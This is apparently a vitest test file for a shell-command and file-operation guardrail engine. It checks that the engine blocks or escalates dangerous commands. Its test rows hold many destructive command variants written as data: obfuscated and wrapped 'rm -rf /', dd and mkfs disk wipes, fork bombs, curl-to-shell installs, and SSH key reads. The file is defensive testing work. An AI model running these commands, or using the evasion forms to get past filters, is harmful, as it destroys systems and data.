import { describe, expect, it } from 'vitest';
import { evaluateArgv, evaluateCommand, evaluateFileOperation, shellQuote, unreliableLineAction } from './command-guardrails.js';
import { parsePolicyDocument } from './policy-document.js';
import { evaluate } from './policy-engine.js';
import { initSqlParser } from './sql-parser.js';
import { contractPolicy, shellPolicy } from './test-fixtures.js';

const policy = shellPolicy();

type Row = [line: string, action: 'allow' | 'block' | 'require_approval', rule: string | null];

const R = 'no-recursive-delete-of-root';
const D = 'dynamicCommand';

describe('command guardrails: attack variants', () => {
  it.each<Row>([
    // rm -r on / and top-level directories: flags, quoting, paths, wrappers
    ['rm -rf /', 'block', R],
    ['rm -fr /', 'block', R],
    ['rm -r -f /', 'block', R],
    ['rm -f -r /', 'block', R],
    ['rm --recursive --force /', 'block', R],
    ['rm --rec -f /', 'block', R],
    ['rm --recursive=x /', 'block', R],
    ['rm -Rf /', 'block', R],
    ['rm -rf /*', 'block', R],
    ['rm -rf /usr', 'block', R],
    ['rm -rf /usr/', 'block', R],
    ['rm -rf //', 'block', R],
    ['rm -rf /./', 'block', R],
    ['rm -rf /etc/../', 'block', R],
    ['rm -rf /tmp/../../..', 'block', R],
    ['rm -rf /bin/../usr', 'block', R],
    ['rm -rf -- /', 'block', R],
    ['rm -rf --no-preserve-root /', 'block', R],
    ["r''m -rf /", 'block', R],
    ['"rm" -rf /', 'block', R],
    ["'rm' -rf /", 'block', R],
    ['\\rm -rf /', 'block', R],
    ['r\\m -rf /', 'block', R],
    ["$'\\x72\\x6d' -rf /", 'block', R],
    ["$'\\162\\155' -rf /", 'block', R],
    ['/bin/rm -rf /', 'block', R],
    ['/usr/bin/../bin/rm -rf /', 'block', R],
    ['./rm -rf /', 'block', R],
    ['rm "-rf" "/"', 'block', R],
    ["rm -r'f' '/'", 'block', R],
    ['rm -rf "/"', 'block', R],
    ['rm -rf $HOME/', 'block', R],
    ['rm -rf "$DIR"/', 'block', R],
    ['rm $FLAGS /', 'block', R],
    ['rm -rf {/,/tmp}', 'block', R],
    ['rm -rf ~root', 'block', R],
    ['sudo rm -rf /', 'block', R],
    ['sudo -u root -- rm -rf /', 'block', R],
    ['sudo -E -H rm -rf /var', 'block', R],
    ['bash -c "rm -rf /"', 'block', R],
    ["sh -c 'rm -rf /'", 'block', R],
    ["bash -lc 'rm -rf /'", 'block', R],
    ["bash -x -c 'rm -rf /'", 'block', R],
    ["sudo sh -c 'cd / && rm -rf *'", 'block', R],
    ["bash -c \"bash -c 'rm -rf /'\"", 'block', R],
    ["su -c 'rm -rf /' root", 'block', R],
    ["su root -c 'rm -rf /'", 'block', R],
    ['env rm -rf /', 'block', R],
    ['env -i PATH=/bin A=1 rm -rf /', 'block', R],
    ["env -S 'rm -rf /'", 'block', R],
    ['nohup rm -rf / &', 'block', R],
    ['timeout 10 rm -rf /', 'block', R],
    ['timeout -s KILL 10 rm -rf /', 'block', R],
    ['timeout --signal=KILL 10s rm -rf /', 'block', R],
    ['nice -n 19 rm -rf /', 'block', R],
    ['nice -19 rm -rf /', 'block', R],
    ['exec rm -rf /', 'block', R],
    ['command rm -rf /', 'block', R],
    ['command -p rm -rf /', 'block', R],
    ['builtin command rm -rf /', 'block', R],
    ['busybox rm -rf /', 'block', R],
    ['time rm -rf /', 'block', R],
    ['stdbuf -o0 rm -rf /', 'block', R],
    ['echo / | xargs rm -rf', 'block', R],
    ['ls | xargs -I{} rm -rf {}', 'block', R],
    ['find / -exec rm -rf {} \\;', 'block', R],
    ['find /usr -execdir rm -rf {} +', 'block', R],
    ['echo hi; rm -rf /', 'block', R],
    ['true && rm -rf /', 'block', R],
    ['false || rm -rf /', 'block', R],
    ['ls | rm -rf /', 'block', R],
    ['(rm -rf /)', 'block', R],
    ['{ rm -rf /; }', 'block', R],
    ['echo $(rm -rf /)', 'block', R],
    ['echo `rm -rf /`', 'block', R],
    ['echo "$(rm -rf /)"', 'block', R],
    ['echo ${X:-$(rm -rf /)}', 'block', R],
    ['cat <(rm -rf /)', 'block', R],
    ['tee >(rm -rf /)', 'block', R],
    ['cat <<EOF\n$(rm -rf /)\nEOF\n', 'block', R],
    ['X=$(rm -rf /) ls', 'block', R],
    ['export X=$(rm -rf /)', 'block', R],
    ['if true; then rm -rf /; fi', 'block', R],
    ['while true; do rm -rf /; done', 'block', R],
    ['for d in a b; do rm -rf /; done', 'block', R],
    ['case x in x) rm -rf /;; esac', 'block', R],
    ['[[ $(rm -rf /) ]]', 'block', R],
    ['(( $(rm -rf / ) ))', 'block', R],
    ['f(){ rm -rf /; }; f', 'block', R],
    ['function f { rm -rf /; }', 'block', R],
    ["alias ls='rm -rf /'", 'block', R],
    ["trap 'rm -rf /' EXIT", 'block', R],
    ["eval 'rm -rf /'", 'block', R],
    ['eval rm -rf /', 'block', R],
    ["watch -n 1 'rm -rf /'", 'block', R],
    ['cd / && rm -rf *', 'block', R],
    ['cd /; rm -rf -- *', 'block', R],
    ['cd /tmp/../ && rm -rf usr', 'block', R],
    ['cd "$X" && rm -rf *', 'block', R],
    ['cd - && rm -rf *', 'block', R],
    ['PROMPT_COMMAND="rm -rf /"', 'block', R],
    // a shell reading its commands from a here-string, a here-doc or a pipe
    ["bash <<< 'rm -rf /'", 'block', R],
    ['bash <<EOF\nrm -rf /\nEOF\n', 'block', R],
    ["sh <<'EOF'\nrm -rf /\nEOF\n", 'block', R],
    ['sudo bash -s <<EOF\ncd /\nrm -rf *\nEOF\n', 'block', R],
    ["echo 'rm -rf /' | bash", 'block', R],
    ["echo rm -rf / | sh -s", 'block', R],
    ["printf 'rm -rf /\\n' | sh", 'block', R],
    // allowed neighbours: not recursive, not / or top level, not rm
    ['rm -rf /tmp/build', 'allow', null],
    ['rm -rf build', 'allow', null],
    ['rm -rf ./build/*', 'allow', null],
    ['rm -f /etc/motd', 'allow', null],
    ['rm /', 'allow', null],
    ['rm -- -rf', 'allow', null],
    ['rm -rf *', 'allow', null],
    ['cd /tmp && rm -rf *', 'allow', null],
    ['echo rm -rf /', 'allow', null],
    ["echo 'rm -rf /'", 'allow', null],
    ['grep -r "rm -rf /" .', 'allow', null],
    ['cat <<EOF\nrm -rf /\nEOF\n', 'allow', null],
    ['# rm -rf /', 'allow', null],
    ['find /tmp/x -exec rm -rf {} \\;', 'allow', null],
    ['find . -type d -name node_modules -exec rm -rf {} +', 'allow', null],
    ['ls -la /', 'allow', null],
    ['', 'allow', null],
  ])('%j → %s (%s)', (line, action, rule) => {
    const d = evaluateCommand(line, policy);
    expect({ action: d.action, rule: d.rule }, d.reason).toEqual({ action, rule });
  });

  it.each<Row>([
    ['mkfs.ext4 /dev/sda1', 'block', 'no-mkfs'],
    ['mkfs -t xfs /dev/sdb', 'block', 'no-mkfs'],
    ['sudo mkfs.xfs -f /dev/nvme0n1', 'block', 'no-mkfs'],
    ['/sbin/mkswap /dev/sda2', 'block', 'no-mkfs'],
    ['wipefs -a /dev/sda', 'block', 'no-mkfs'],
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'block', 'no-raw-disk-writes'],
    ['dd of=/dev/nvme0n1 if=x.img', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=/dev//sda', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=/dev/./sda', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=/tmp/../dev/sda', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=/dev/disk/by-id/ata-X', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img "of=/dev/sda"', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=$DEV', 'block', 'no-raw-disk-writes'],
    ['dd if=x.img of=/tmp/x', 'allow', null],
    ['dd if=/dev/zero of=/dev/null count=1', 'allow', null],
    ['dd if=/dev/sda of=/tmp/disk.img', 'allow', null],
    ['cp disk.img /dev/sdb', 'block', 'no-copies-to-disks'],
    ['cat disk.img | sudo tee /dev/sdb >/dev/null', 'block', 'no-copies-to-disks'],
    ['echo x > /dev/disk/by-uuid/1234', 'block', 'no-redirects-to-disks'],
    ['echo x > /dev//sda', 'block', 'no-redirects-to-disks'],
    ['cat x.img > /dev/sda', 'block', 'no-redirects-to-disks'],
    ['echo x >/dev/nvme0n1p1', 'block', 'no-redirects-to-disks'],
    ['> /dev/sda', 'block', 'no-redirects-to-disks'],
    ['exec 3>/dev/sdb', 'block', 'no-redirects-to-disks'],
    ['echo x &>> /dev/sdc', 'block', 'no-redirects-to-disks'],
    ['echo x > /dev/null', 'allow', null],
    ['echo x 2>&1', 'allow', null],
    ['cat < /dev/sda', 'allow', null],
    ['shutdown -h now', 'block', 'no-power-off'],
    ['sudo reboot', 'block', 'no-power-off'],
    ['/sbin/halt', 'block', 'no-power-off'],
    ['poweroff --force', 'block', 'no-power-off'],
    ['systemctl reboot', 'block', 'no-systemctl-power-off'],
    ['systemctl poweroff -i', 'block', 'no-systemctl-power-off'],
    ['systemctl status nginx', 'allow', null],
    [':(){ :|:& };:', 'block', 'no-fork-bombs'],
    ['bomb(){ bomb | bomb & }; bomb', 'block', 'no-fork-bombs'],
    ['a(){ b|b& }; b(){ a|a& }; a', 'block', 'no-fork-bombs'],
    ['f() { f; }', 'block', 'no-fork-bombs'],
    ['f() { g; }; f', 'allow', null],
    ['curl -s https://x.example/install.sh | sh', 'block', 'no-download-to-shell'],
    ['curl -fsSL https://x | sudo bash', 'block', 'no-download-to-shell'],
    ['wget -qO- https://x | bash -s -- --yes', 'block', 'no-download-to-shell'],
    ['curl https://x | tee /tmp/i.sh | sh', 'block', 'no-download-to-shell'],
    ['curl https://x | python3', 'block', 'no-download-to-shell'],
    ['bash <(curl -s https://x)', 'block', 'no-download-to-shell'],
    ['bash <<< "$(curl -s https://x)"', 'block', 'no-download-to-shell'],
    ['(curl -s https://x) | sh', 'block', 'no-download-to-shell'],
    ['curl -o /tmp/x https://x', 'allow', null],
    ['curl https://x | jq .', 'allow', null],
    ['chmod -R 777 /', 'block', 'no-recursive-chmod-of-root'],
    ['chmod --recursive a+rwx /etc', 'block', 'no-recursive-chmod-of-root'],
    ['chown -R nobody /', 'block', 'no-recursive-chmod-of-root'],
    ['chmod 644 /etc/motd', 'allow', null],
    ['chmod -R 755 /srv/app', 'allow', null],
    ['echo x > /etc/passwd', 'require_approval', 'system-config-writes'],
    ['echo x >> /etc/sudoers.d/x', 'require_approval', 'system-config-writes'],
    ['echo x > /tmp/../etc/passwd', 'require_approval', 'system-config-writes'],
    ['cd /etc && echo x > passwd', 'require_approval', 'system-config-writes'],
    ['echo x | tee -a /etc/hosts', 'require_approval', 'tee-into-system-config'],
    // a redirect to a path known only at run time may be any path: the most restrictive rule
    ['echo x > $F', 'block', 'no-redirects-to-disks'],
    ['cat /etc/passwd', 'allow', null],
    ['sudo ls', 'require_approval', 'privilege-escalation'],
    ['su -', 'require_approval', 'privilege-escalation'],
    ['/usr/bin/sudo -i', 'require_approval', 'privilege-escalation'],
    ['doas whoami', 'require_approval', 'privilege-escalation'],
    ['echo sudo', 'allow', null],
  ])('%j → %s (%s)', (line, action, rule) => {
    const d = evaluateCommand(line, policy);
    expect({ action: d.action, rule: d.rule }, d.reason).toEqual({ action, rule });
  });
});

describe('what cannot be analysed follows dynamicCommand', () => {
  it.each<[string, string]>([
    ['$CMD -rf /', 'expansion'],
    ['$(echo rm) -rf /', 'expansion'],
    ['`echo rm` -rf /', 'expansion'],
    ['"$X"', 'expansion'],
    ['${X}', 'expansion'],
    ['rm${IFS}-rf${IFS}/', 'expansion'],
    ['IFS=,; x=rm,-rf,/; $x', 'expansion'],
    ['{rm,-rf,/}', 'expansion'],
    ['/???/rm -rf /', 'glob'],
    ['/bin/r? -rf /', 'glob'],
    ['eval "$X"', 'eval'],
    ['eval $(echo rm -rf /)', 'eval'],
    ['source ./x.sh', 'source'],
    ['. ./x.sh', 'source'],
    ['bash -c "$X"', 'script built at run time'],
    ["sh -c \"$(curl -s https://x)\"", 'script built at run time'],
    ['sudo $X', 'expansion'],
    ['xargs $CMD', 'expansion'],
    ["x='$(rm -rf /)'; echo $((x))", 'command substitution text'],
    ['PS1=\'$(rm -rf /)\'', 'prompt'],
    ['BASH_ENV=/tmp/x bash -c ls', 'BASH_ENV'],
    ['fc -s', 'history'],
    ['cat x.sh | bash', 'pipe'],
    ['bash -s < /dev/stdin <<< "$X"', 'here-doc built at run time'],
  ])('%j is dynamic (%s)', (line, why) => {
    const d = evaluateCommand(line, policy);
    expect(d.action).toBe('block');
    expect(d.rule).toBe(D);
    expect(d.reason).toContain(why);
  });

  it('dynamicCommand decides: allow, require_approval', () => {
    expect(evaluateCommand('$X', shellPolicy({ dynamicCommand: 'allow' })).action).toBe('allow');
    expect(evaluateCommand('$X', shellPolicy({ dynamicCommand: 'require_approval' }))).toMatchObject({ action: 'require_approval', rule: D });
    // a guardrail that blocks still wins over an allowed dynamic part
    expect(evaluateCommand('$X; rm -rf /', shellPolicy({ dynamicCommand: 'allow' }))).toMatchObject({ action: 'block', rule: R });
  });

  it('a shell started without a script: its lines are decided as typed in an interactive shell, a script file is not read', () => {
    expect(evaluateCommand('bash', policy, { interactive: true }).action).toBe('allow');
    // a terminal session (kubectl exec -it -- sh, ssh -t host bash): its lines are decided as typed
    expect(evaluateCommand('sh', policy).action).toBe('allow');
    // no terminal: the session's input is a stream of commands nobody decides
    expect(evaluateCommand('bash', policy, { unseenInput: true })).toMatchObject({ action: 'block', rule: D });
    expect(evaluateCommand('sh -s', policy, { unseenInput: true }).reason).toContain("session's input");
    expect(evaluateCommand('bash -c ls', policy, { unseenInput: true }).action).toBe('allow');
    expect(evaluateCommand('echo ls | bash', policy, { unseenInput: true }).action).toBe('allow');
    expect(evaluateCommand('bash deploy.sh', policy).action).toBe('allow');
    expect(evaluateCommand('bash < deploy.sh', policy).action).toBe('allow');
    expect(evaluateCommand("echo 'ls -la' | bash", policy)).toMatchObject({ action: 'allow', kinds: ['echo', 'bash', 'ls'] });
  });

  it('history expansion is dynamic only in interactive shells', () => {
    expect(evaluateCommand('sudo !!', policy, { interactive: true }).rule).toBe(D);
    expect(evaluateCommand('!rm', policy, { interactive: true }).rule).toBe(D);
    expect(evaluateCommand('^tmp^etc', policy, { interactive: true }).rule).toBe(D);
    expect(evaluateCommand('echo "hi!"', policy, { interactive: true }).rule).toBe(null);
    expect(evaluateCommand('[ ! -f x ]', policy, { interactive: true }).rule).toBe(null);
    expect(evaluateCommand('ls !x', policy).rule).toBe(null);
  });

  it('unparsable text: command-parse-error with dynamicCommand; incomplete input is said', () => {
    expect(evaluateCommand('a )', policy)).toMatchObject({ action: 'block', rule: 'command-parse-error' });
    const d = evaluateCommand('echo "abc', policy);
    expect(d).toMatchObject({ action: 'block', rule: 'command-parse-error', incomplete: true });
    expect(evaluateCommand('if true; then', policy).incomplete).toBe(true);
    expect(evaluateCommand('cat <<EOF', policy).incomplete).toBe(true);
  });
});

describe('bounds: no input hurts the process', () => {
  it.each<[string, string]>([
    ['deep $( nesting', `echo ${'$('.repeat(5000)}x${')'.repeat(5000)}`],
    ['deep parentheses', `${'('.repeat(5000)}x${')'.repeat(5000)}`],
    ['long pipeline', `${'a|'.repeat(3000)}a`],
    ['long and-chain', `${'a && '.repeat(1500)}a`],
    ['deep braces', `${'{ '.repeat(3000)}x;${' }'.repeat(3000)}`],
    ['deep quotes', `echo ${'"$('.repeat(2000)}x${')"'.repeat(2000)}`],
    ['nested eval', `${'eval '.repeat(12)}rm -rf /`],
    ['nested bash -c', Array.from({ length: 9 }).reduce<string>((s) => `bash -c ${shellQuote(s)}`, 'ls')],
  ])('%s → command-too-complex', (_name, line) => {
    const d = evaluateCommand(line, policy);
    expect(d.action).toBe('block');
    expect(d.rule).toBe('command-too-complex');
  });

  it('too large → command-too-large, per policy maxCommandBytes', () => {
    expect(evaluateCommand(`echo ${'a'.repeat(70_000)}`, policy).rule).toBe('command-too-large');
    expect(evaluateCommand(`echo ${'a'.repeat(200)}`, shellPolicy({ maxCommandBytes: 100 })).rule).toBe('command-too-large');
    expect(evaluateCommand(`echo ${'é'.repeat(40)}`, shellPolicy({ maxCommandBytes: 64 })).rule).toBe('command-too-large');
  });

  it('the parser still works after refusals', () => {
    for (let i = 0; i < 50; i++) evaluateCommand(`${'('.repeat(5000)}x`, policy);
    expect(evaluateCommand('rm -rf /', policy).rule).toBe(R);
  });

  it('many commands in one line are fine below the cap', () => {
    const d = evaluateCommand('ls; '.repeat(500), policy);
    expect(d.action).toBe('allow');
    expect(d.kinds).toEqual(['ls']);
  });
});

describe('decisions', () => {
  it('name their rule and say what matched; most restrictive wins', () => {
    const d = evaluateCommand('sudo rm -rf /', policy);
    expect(d).toMatchObject({ action: 'block', rule: R, kinds: ['sudo', 'rm'], cached: false });
    expect(d.reason).toBe('command rm -rf / (run by sudo) is blocked by guardrail no-recursive-delete-of-root');
    expect(evaluateCommand('echo x > /etc/motd; sudo ls', policy).rule).toBe('system-config-writes');
  });

  it('the admin-written reason is what the client sees', () => {
    const doc = parsePolicyDocument({ name: 'p', guardrails: [{ name: 'no-ls', action: 'block', reason: 'Use the inventory tool.', match: { commands: ['ls'] } }] });
    expect(evaluateCommand('ls -la', doc).reason).toBe('Use the inventory tool.');
  });

  it('say the working directory a cd leaves', () => {
    expect(evaluateCommand('cd /var/log', policy).cwd).toBe('/var/log');
    expect(evaluateCommand('rm -rf *', policy, { cwd: '/' })).toMatchObject({ action: 'block', rule: R });
    expect(evaluateCommand('rm -rf *', policy, { cwd: '/home/x' }).action).toBe('allow');
    expect(evaluateCommand('rm -rf ../..', policy, { cwd: '/home/x' })).toMatchObject({ action: 'block', rule: R });
  });

  it('relative paths that climb out of an unknown directory may be anywhere', () => {
    expect(evaluateCommand('rm -rf ../../..', policy).rule).toBe(R);
  });

  it('argv (Kubernetes exec) is decided word for word', () => {
    expect(evaluateArgv(['rm', '-rf', '/'], policy).rule).toBe(R);
    expect(evaluateArgv(['sh', '-c', 'rm -rf /'], policy).rule).toBe(R);
    expect(evaluateArgv(['echo', '$(rm -rf /)', ';', 'rm'], policy).action).toBe('allow');
    expect(evaluateArgv(['ls', "it's"], policy).action).toBe('allow');
  });

  it('SQL guardrails do not see command rules and command rules do not see SQL ones', async () => {
    await initSqlParser();
    expect(evaluate('SELECT 1', policy).action).toBe('allow');
    expect(evaluate('DROP TABLE x', policy).action).toBe('allow');
    expect(evaluate('DROP TABLE x', contractPolicy()).action).toBe('block');
    expect(evaluateCommand('DROP TABLE x', contractPolicy()).action).toBe('allow');
  });

  it('the unreliable-line setting defaults to require_approval', () => {
    expect(unreliableLineAction(policy)).toBe('require_approval');
    expect(unreliableLineAction(shellPolicy({ interactive: { unreliableLine: 'allow_and_flag' } }))).toBe('allow_and_flag');
  });
});

describe('policy document: command and file guardrails', () => {
  it.each<[string, unknown, string]>([
    ['mixed kinds', { commands: ['rm'], statements: ['DROP'] }, 'mixes'],
    ['empty commands', { commands: [] }, 'at least one'],
    ['unknown key', { command: ['rm'] }, 'command'],
    ['file rule without paths', { files: { operations: ['write'] } }, 'paths'],
    ['unknown operation', { files: { operations: ['delete'], paths: ['/'] } }, 'operations'],
    ['recursiveFunction false', { recursiveFunction: false }, 'recursiveFunction'],
  ])('%s is refused', (_n, match, message) => {
    expect(() => parsePolicyDocument({ name: 'p', guardrails: [{ name: 'g', action: 'block', match }] })).toThrow(message);
  });

  it('interactive.unreliableLine accepts only its three values', () => {
    expect(() => parsePolicyDocument({ name: 'p', interactive: { unreliableLine: 'ignore' } })).toThrow('unreliableLine');
  });
});

describe('file operations (SFTP, SCP)', () => {
  type F = [op: string, path: string, target: string | undefined, cwd: string | null, action: string, rule: string | null];
  it.each<F>([
    ['write', '/etc/passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '/etc', undefined, null, 'block', 'no-etc-uploads'],
    ['mkdir', '/etc/x', undefined, null, 'block', 'no-etc-uploads'],
    ['remove', '/etc/hosts', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '//etc//passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '/./etc/./passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '/tmp/../etc/passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '/../../../etc/passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '../../../../etc/passwd', undefined, '/home/u', 'block', 'no-etc-uploads'],
    ['write', 'passwd', undefined, '/etc', 'block', 'no-etc-uploads'],
    ['write', 'etc/passwd', undefined, null, 'block', 'no-etc-uploads'],
    ['write', 'x', undefined, '/home/u', 'allow', null],
    ['write', '/etcetera/x', undefined, null, 'allow', null],
    ['write', '/tmp/etc/x', undefined, null, 'allow', null],
    ['read', '/etc/passwd', undefined, null, 'allow', null],
    ['rename', '/tmp/x', '/etc/passwd', null, 'block', 'no-etc-uploads'],
    ['rename', '/etc/passwd', '/tmp/x', null, 'block', 'no-etc-uploads'],
    ['setstat', '/etc/shadow', undefined, null, 'block', 'no-etc-uploads'],
    ['symlink', '/etc/x', '/tmp/y', null, 'block', 'no-etc-uploads'],
    ['read', '/home/u/.ssh/id_rsa', undefined, null, 'block', 'no-key-downloads'],
    ['read', 'server.pem', undefined, '/srv', 'block', 'no-key-downloads'],
    ['read', 'server.pem', undefined, null, 'block', 'no-key-downloads'],
    ['read', '/a/b/c/tls.pem', undefined, null, 'block', 'no-key-downloads'],
    ['read', '/a/b/c/tls.pem.txt', undefined, null, 'allow', null],
    ['write', '/a/b/c/tls.pem', undefined, null, 'allow', null],
    ['symlink', '/tmp/link', '/root/key.pem', null, 'block', 'no-key-downloads'],
    ['read', '/tmp/[x]*?.txt', undefined, null, 'allow', null],
    ['write', '/etc/*', undefined, null, 'block', 'no-etc-uploads'],
    ['write', '/tmp/x\0/etc/passwd', undefined, null, 'block', 'path-invalid'],
    ['write', '', undefined, null, 'block', 'path-invalid'],
  ])('%s %j (%j, cwd %j) → %s (%s)', (operation, path, target, cwd, action, rule) => {
    const d = evaluateFileOperation({ operation: operation as never, path, target, cwd }, policy);
    expect({ action: d.action, rule: d.rule }, d.reason).toEqual({ action, rule });
  });

  it('names the normalised path in the reason', () => {
    expect(evaluateFileOperation({ operation: 'write', path: '/tmp/../etc/passwd' }, policy).reason).toBe('write of /etc/passwd is blocked by guardrail no-etc-uploads');
  });
});
